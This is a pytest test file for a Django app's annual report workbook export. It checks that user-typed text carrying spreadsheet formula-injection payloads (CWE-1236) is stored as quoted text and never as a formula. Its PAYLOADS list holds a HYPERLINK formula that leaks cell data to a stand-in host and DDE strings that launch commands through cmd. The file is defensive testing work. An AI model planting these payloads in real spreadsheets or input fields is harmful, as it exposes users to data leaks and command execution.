"""Spreadsheet formula injection (CWE-1236): text typed by users reaches the annual
workbook as text, never as a formula, in every text column of every sheet."""

import re
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from participants.models import CommunityEvent, DropoutReason, SupportForm
from projects.models import BudgetCategory, Project
from reports.models import AnnualSection
from reports.selectors import annual_summary
from reports.services import narrative_save
from reports.tests.scenario import build_2014

pytestmark = pytest.mark.django_db

# What a spreadsheet treats as a formula, or turns into one when the cell is edited.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def payload(index: int, what: str) -> str:
    """A payload that also says where it came from (to find it in the workbook)."""
    return f'{PAYLOADS[index % len(PAYLOADS)]}&"{what}"'


@pytest.fixture
def poisoned_year(manager):
    """The 2014 scenario with a payload in every text that users type and the workbook
    exports: project titles, drop-out reasons, support forms, event names and places,
    budget categories and the manager's paragraphs. Returns the texts as stored."""
    build_2014()
    summary = annual_summary(2014)
    reasons = {name for p in summary.projects for name, _n in p.dropout_reasons}
    forms = {row.name for p in summary.projects for row in p.support}
    texts = []

    def poison(obj, field: str, what: str) -> None:
        setattr(obj, field, payload(len(texts), what))
        obj.save(update_fields=[field])
        texts.append(getattr(obj, field))

    for project in Project.objects.all():
        poison(project, "title", f"project {project.pk}")
    for dropout in DropoutReason.objects.filter(name__in=reasons):
        poison(dropout, "name", f"reason {dropout.pk}")
    for form in SupportForm.objects.filter(name__in=forms):
        poison(form, "name", f"support form {form.pk}")
    for event in CommunityEvent.objects.filter(date__year=2014):
        poison(event, "name", f"event {event.pk}")
        poison(event, "place", f"place {event.pk}")
    for category in BudgetCategory.objects.all():
        poison(category, "name", f"category {category.pk}")
    for section in AnnualSection.values:
        text = payload(len(texts), f"paragraph {section}")
        # As saved: the service strips a leading tab or CR (leaving "=1+1…").
        texts.append(narrative_save(year=2014, section=section, text=text, user=manager).text)
    assert reasons and forms
    # XML turns a carriage return into a line feed; both start a formula alike.
    return [text.replace("\r", "\n") for text in texts]


def test_user_text_in_the_annual_workbook_is_text_not_a_formula(manager_client, poisoned_year):
    """Today's failure: openpyxl stored every text starting with "=" as a formula."""
    texts = poisoned_year
    content = manager_client.get(reverse("reports:annual_xlsx", args=[2014])).content

    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 9
        for name in sheets:
            assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name  # no formula

    workbook = load_workbook(BytesIO(content))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in texts:
                    # Shown as typed, and kept text if the cell is edited.
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found.setdefault(cell.value, set()).add(sheet.title)
    # Every poisoned text reached the workbook (else this test would prove nothing).
    assert set(found) == set(texts)
    assert {title for titles in found.values() for title in titles} == {
        "Projekty",
        "Powody przerwania udziału",
        "Formy wsparcia",
        "Działania środowiskowe",
        "Budżet",
        "Opis",
    }


def test_awkward_text_does_not_break_the_workbook(manager_client, manager):
    """Control characters that a workbook cannot hold are left out, not a server error;
    texts that look like an error code (#N/A) or a number stay text."""
    build_2014()
    event = CommunityEvent.objects.get(date__year=2014)
    event.name, event.place = "Piknik\x01\x08 rodzinny", "#N/A"
    event.save()
    narrative_save(year=2014, section=1, text="-5", user=manager)

    response = manager_client.get(reverse("reports:annual_xlsx", args=[2014]))

    assert response.status_code == 200
    workbook = load_workbook(BytesIO(response.content))
    events = list(workbook["Działania środowiskowe"].iter_rows(min_row=2, values_only=True))
    assert [(row[1], row[2]) for row in events] == [("Piknik rodzinny", "#N/A")]
    paragraph = workbook["Opis"]["B2"]
    assert (paragraph.value, paragraph.data_type) == ("-5", "s")
